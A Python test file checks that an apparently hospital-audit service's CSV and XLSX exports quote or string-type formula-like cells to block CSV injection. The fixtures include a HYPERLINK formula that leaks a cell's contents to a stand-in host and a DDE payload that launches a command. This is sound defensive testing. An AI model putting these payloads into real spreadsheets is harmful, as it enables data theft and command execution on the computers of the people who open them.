"""Exported cells never run as formulas (CSV injection), in CSV and XLSX, ledger and scoreboard."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from service.cells import inert
from service.regions.models import Hospital
from service.roster.importer import _Rejects
from service.roster.rows import RowRejected
from service.violations import export
from tests import factories as f

HOSTILE = ["-1-1", "-A1:B2", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "@SUM(A1)"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("-1-1", "'-1-1"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # The full-width forms a Chinese input method types.
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20A1", "'\uff20A1"),
        ("V-1", "V-1"),
        ("", ""),
        (-5, -5),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(value: object, shown: object) -> None:
    assert inert(value) == shown


@pytest.fixture
async def hostile_ledger(app: FastAPI) -> None:
    await f.book(app.state.sessionmaker, *(f.finding(visit_id=v) for v in HOSTILE))


async def test_the_csv_export_quotes_formula_cells(
    client: httpx.AsyncClient, auditor_headers: dict[str, str], hostile_ledger: None
) -> None:
    response = await client.get(
        "/v1/violations/export.csv", params={"sort": "asc"}, headers=auditor_headers
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    visit_ids = [row[7] for row in rows[1:]]
    assert visit_ids == ["'" + v for v in HOSTILE]


async def test_the_xlsx_export_writes_formula_like_text_as_text(
    client: httpx.AsyncClient, auditor_headers: dict[str, str], hostile_ledger: None
) -> None:
    response = await client.get(
        "/v1/violations/export.xlsx", params={"sort": "asc"}, headers=auditor_headers
    )
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [row[7] for row in sheet.iter_rows(min_row=3)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE


async def test_the_scoreboard_exports_quote_a_hostile_hospital_name(
    app: FastAPI, client: httpx.AsyncClient, auditor_headers: dict[str, str]
) -> None:
    async with app.state.sessionmaker() as s:
        hospital = await s.get(Hospital, f.TOWNSHIP_HOSPITAL)
        assert hospital is not None
        hospital.name = "=cmd|' /C calc'!A0"
        s.add(hospital)
        await s.commit()
    await f.book(app.state.sessionmaker, f.finding(hospital_code=f.TOWNSHIP_HOSPITAL))
    period = {"from": "2026-03-01", "to": "2026-03-31"}
    text = (
        await client.get(
            "/v1/violations/scoreboard/export.csv", params=period, headers=auditor_headers
        )
    ).text
    names = [row[3] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))]
    assert "'=cmd|' /C calc'!A0" in names
    assert "=cmd|' /C calc'!A0" not in names
    content = (
        await client.get(
            "/v1/violations/scoreboard/export.xlsx", params=period, headers=auditor_headers
        )
    ).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value == "=cmd|' /C calc'!A0"]
    assert [c.data_type for c in cells] == ["s"]


async def test_a_csv_cell_round_trips_whatever_punctuation_it_holds() -> None:
    """Separators, quotes and line breaks inside a cell are quoted as RFC 4180 says: a CSV
    reader gets each cell back whole (formula-like text with its apostrophe)."""
    cells = ["a,b", "x;y", 'say "hi"', "two\nlines", "cr\r\nlf", '=HYPERLINK("http://x")']
    chunks = [
        chunk
        async for chunk in export.csv_stream(
            ["text", "amount"], export.listed([[c, Decimal("-12.30")] for c in cells])
        )
    ]
    text = b"".join(chunks).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [[inert(c), "-12.30"] for c in cells]


def test_a_negative_amount_stays_a_number_in_csv() -> None:
    """Only text is quoted: a minus sign in front of a number is its sign."""
    assert export._csv_cell(Decimal("-1.00")) == "-1.00"
    assert export._csv_cell(-3) == -3
    assert export._csv_cell("-3") == "'-3"


async def test_xlsx_captions_and_headers_are_text_too() -> None:
    """Every text cell of a sheet is a string cell, not only the rows': the caption quotes the
    caller's filters and a header could be anything a later change puts there."""
    chunks = [
        chunk
        async for chunk in export.xlsx_stream(
            "问题台账", "=HYPERLINK(1)", ["-A1", "@B"], (8, 8), export.listed([["=1+1", 2]])
        )
    ]
    sheet = load_workbook(io.BytesIO(b"".join(chunks))).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows(max_row=3)]
    assert [(c.value, c.data_type) for c in rows[0][:1]] == [("=HYPERLINK(1)", "s")]
    assert [(c.value, c.data_type) for c in rows[1]] == [("-A1", "s"), ("@B", "s")]
    assert [(c.value, c.data_type) for c in rows[2]] == [("=1+1", "s"), (2, "n")]


def test_the_roster_rejects_report_quotes_formula_text(tmp_path: Path) -> None:
    """The rejects report quotes the imported file's own text; officials open it in Excel."""
    rejects = _Rejects(tmp_path / "rejects.csv")
    rejects.add(7, RowRejected("category", "=cmd|' /C calc'!A0", masked="500112********0011"))
    rejects.close()
    rows = list(csv.reader((tmp_path / "rejects.csv").open(encoding="utf-8")))
    assert rows[1] == ["7", "500112********0011", "category", "'=cmd|' /C calc'!A0"]


SERVICE = Path(__file__).resolve().parents[2] / "service"
# Workbooks written with fixed text only (no caller's data), so no cell needs typing.
FIXED_TEXT_WORKBOOKS = {"roster/template.py"}


@pytest.mark.parametrize(
    "module", sorted(p.relative_to(SERVICE).as_posix() for p in SERVICE.rglob("*.py"))
)
def test_every_spreadsheet_writer_makes_its_text_inert(module: str) -> None:
    """The class, not the example: a module that writes CSV quotes its text cells with
    service.cells.inert; one that writes XLSX types its text cells as strings."""
    source = (SERVICE / module).read_text(encoding="utf-8")
    if "csv.writer(" in source:
        assert "inert(" in source, f"{module} writes CSV without service.cells.inert"
    if "Workbook(" in source and module not in FIXED_TEXT_WORKBOOKS:
        assert 'data_type = "s"' in source, f"{module} writes XLSX text that could run"
